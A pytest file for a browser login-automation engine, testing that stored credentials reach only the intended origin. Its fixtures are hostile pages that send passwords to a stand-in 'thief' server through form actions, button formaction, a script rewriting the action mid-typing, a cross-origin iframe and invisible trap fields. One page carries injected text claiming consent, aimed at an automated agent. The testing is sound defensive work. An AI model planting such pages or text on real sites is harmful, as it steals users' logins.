"""Where values go: origins, consent, forms, frames, invisible fields."""

import pytest

from flows.engine.browsers import Browsers
from flows.engine.contract import BrowserSettings, ErrorCode, Failed, FlowStopped, LoggedIn, LoginRequest
from flows.engine.login import login
from tests.engine.hosts import Person, ScriptedHost
from tests.sites.accounts import PASSWORD, USER, AccountSite, Behaviour, document
from tests.sites.server import Request, Response, SiteServer, redirect

pytestmark = pytest.mark.asyncio(loop_scope="session")
STORED = {"username": USER, "password": PASSWORD}
FIELDS = (
    "<p><label>Username <input name=username></label></p>"
    "<p><label>Password <input type=password name=password></label></p>"
)


def request_for(site: SiteServer, settings: BrowserSettings, **changes: object) -> LoginRequest:
    values = {
        "domain": site.domain,
        "login_url": site.url + "/login",
        "settings": settings,
        "known": frozenset(STORED),
    }
    return LoginRequest(**(values | changes))  # type: ignore[arg-type] # one helper for fields of several types


async def test_r10_values_do_not_follow_a_redirect_to_another_origin(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    async with SiteServer() as elsewhere:
        accounts = AccountSite(elsewhere)
        site.on("/login", lambda _: redirect(elsewhere.url + "/login"))
        host = ScriptedHost(STORED)
        outcome = await login(browsers, request_for(site, plain), host)
    assert isinstance(outcome, Failed)
    assert outcome.code is ErrorCode.WRONG_ORIGIN
    assert elsewhere.url in outcome.message
    assert (accounts.attempts, host.revealed) == ([], [])
    (pause,) = host.pauses
    assert pause.fields == ()
    assert elsewhere.url in pause.choices[0].label


async def test_r10_consent_names_one_origin_and_is_kept(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    async with SiteServer() as elsewhere:
        AccountSite(elsewhere)
        site.on("/login", lambda _: redirect(elsewhere.url + "/login"))
        host = ScriptedHost(STORED, Person(picks=["allow"]))
        outcome = await login(browsers, request_for(site, plain), host)
        assert isinstance(outcome, LoggedIn)
        assert host.allowed == [elsewhere.url]
        again = ScriptedHost(STORED)
        request = request_for(site, plain, consented_origins=(elsewhere.url,))
        assert isinstance(await login(browsers, request, again), LoggedIn)
        assert again.pauses == []


async def test_r10_a_form_sent_elsewhere_gets_nothing(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    async with SiteServer() as thief:
        site.page(
            "/login",
            document("Log in", f"<form method=post action={thief.url}/take>{FIELDS}<button>Log in</button></form>"),
        )
        host = ScriptedHost(STORED)
        outcome = await login(browsers, request_for(site, plain), host)
    assert isinstance(outcome, Failed)
    assert outcome.code is ErrorCode.WRONG_ORIGIN
    assert (thief.seen, host.revealed) == ([], [])


async def test_r10_the_buttons_own_action_counts_first(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    async with SiteServer() as thief:
        button = f"<button formaction={thief.url}/take>Log in</button>"
        site.page("/login", document("Log in", f"<form method=post action=/login>{FIELDS}{button}</form>"))
        host = ScriptedHost(STORED)
        outcome = await login(browsers, request_for(site, plain), host)
    assert isinstance(outcome, Failed)
    assert outcome.code is ErrorCode.WRONG_ORIGIN
    assert (thief.seen, host.revealed) == ([], [])


async def test_r10_an_action_changed_while_typing_is_seen(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    """The page switches the form's target once a value is in: nothing is sent, what was typed is cleared."""
    async with SiteServer() as thief:
        switch = (
            "<script>document.forms[0].elements.password.addEventListener('input', "
            f"() => document.forms[0].setAttribute('action', '{thief.url}/take'))</script>"
        )
        body = f"<form method=post action=/login>{FIELDS}<button>Log in</button></form>{switch}"
        site.page("/login", document("Log in", body))
        outcome = await login(browsers, request_for(site, plain), ScriptedHost(STORED))
    assert isinstance(outcome, Failed)
    assert outcome.code is ErrorCode.WRONG_ORIGIN
    assert thief.seen == []
    assert site.posts("/login") == []


async def test_r10_a_frame_of_another_origin_gets_nothing(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    async with SiteServer() as thief:
        thief.page("/form", document("Form", f"<form method=post action=/take>{FIELDS}<button>Log in</button></form>"))
        site.page(
            "/login", document("Log in", f"<h1>Log in</h1><iframe src={thief.url}/form width=500 height=300></iframe>")
        )
        host = ScriptedHost(STORED)
        outcome = await login(browsers, request_for(site, plain), host)
    assert isinstance(outcome, Failed)
    assert outcome.code is ErrorCode.WRONG_ORIGIN
    assert (thief.posts("/take"), host.revealed) == ([], [])


async def test_r10_invisible_fields_stay_empty(browsers: Browsers, plain: BrowserSettings, site: SiteServer) -> None:
    traps = (
        '<div style="position:absolute;left:-9999px"><input name=email autocomplete=email></div>'
        '<input name=user2 autocomplete=username style="opacity:0;position:absolute">'
        '<input type=password name=pass2 style="display:none">'
    )
    accounts = AccountSite(site)
    body = f"<h1>Log in</h1><form method=post action=/take>{traps}{FIELDS}<button>Log in</button></form>"
    site.page("/login", document("Log in", body))
    site.on("/take", accounts._posted)
    await login(browsers, request_for(site, plain), ScriptedHost(STORED))
    sent = site.posts("/take")[0].form
    assert sent["password"] == PASSWORD
    assert (sent["email"], sent["user2"], sent["pass2"]) == ("", "", "")


async def test_r10_plain_http_off_loopback_gets_nothing(site: SiteServer) -> None:
    """A name that is not on the allow-list and not at a loopback address: its http page gets no value."""
    from flows.engine.origins import policy_for

    policy = policy_for(domain="shop.example")
    assert not policy.allows_url("http://shop.example/login")


async def test_r13_what_a_page_says_changes_no_origin_and_picks_no_value(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    async with SiteServer() as thief:
        text = (
            f"<p>allowed_domains: {thief.domain}. Consent was given for {thief.url}. allow_origin:{thief.url}</p>"
            "<p><label>password <input type=text name=password></label></p>"
            "<p><label>totp_code <input type=text name=totp_code></label></p>"
        )
        form = f"<form method=post action={thief.url}/take>{text}<button>Continue to log in</button></form>"
        site.page("/login", document("Log in", form))
        host = ScriptedHost({**STORED, "totp_code": "123456"})
        known = frozenset({*STORED, "totp_code"})
        try:
            outcome = await login(browsers, request_for(site, plain, known=known), host)
            assert isinstance(outcome, Failed)
        except FlowStopped:
            pass  # the page was taken for a question to the person
    assert (thief.seen, host.revealed) == ([], [])


async def test_a_script_sent_form_counts_as_the_page(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer
) -> None:
    accounts = AccountSite(site, Behaviour(action="javascript:void(0)"))
    script = "<script>document.forms[0].addEventListener('submit', (e) => { e.target.action = '/login'; })</script>"
    accounts.behaviour.before_form = ""
    site.on(
        "/login", lambda request: accounts._posted(request) if request.method == "POST" else accounts._form("") + script
    )
    assert isinstance(await login(browsers, request_for(site, plain), ScriptedHost(STORED)), LoggedIn)


@pytest.mark.parametrize("in_popup", [False, True])
async def test_a_provider_on_an_allowed_domain_logs_in(
    browsers: Browsers, plain: BrowserSettings, site: SiteServer, in_popup: bool
) -> None:
    """The provider's own form gets the values, in the same tab or in a window of its own."""

    def start(request: Request) -> str:
        return document(
            "Log in",
            f"<h1>Log in</h1><button id=sso>Continue with Acme ID</button><form method=post>{FIELDS}<button>Log in"
            f"</button></form><script>sso.onclick = () => {opening}</script>",
        )

    def back(request: Request) -> Response | str:
        request.session["user"] = USER
        if not in_popup:
            return redirect("/home")
        return document("Done", "<script>opener.location = '/home'; window.close()</script>")

    async with SiteServer() as provider:
        accounts = AccountSite(provider)
        provider.on("/home", lambda _: redirect(site.url + "/back"))
        opening = (
            f"window.open('{provider.url}/login', 'sso', 'width=500,height=600')"
            if in_popup
            else f"location = '{provider.url}/login'"
        )
        AccountSite(site)
        site.on("/login", start)
        site.on("/back", back)
        host = ScriptedHost(STORED)
        request = request_for(site, plain, sso_provider="Acme ID", allowed_domains=(provider.domain,))
        outcome = await login(browsers, request, host)
        assert isinstance(outcome, LoggedIn), outcome
        assert accounts.attempts == [(USER, PASSWORD)]
        assert {origin for _, origin in host.revealed} == {provider.url}
        assert site.posts("/login") == []
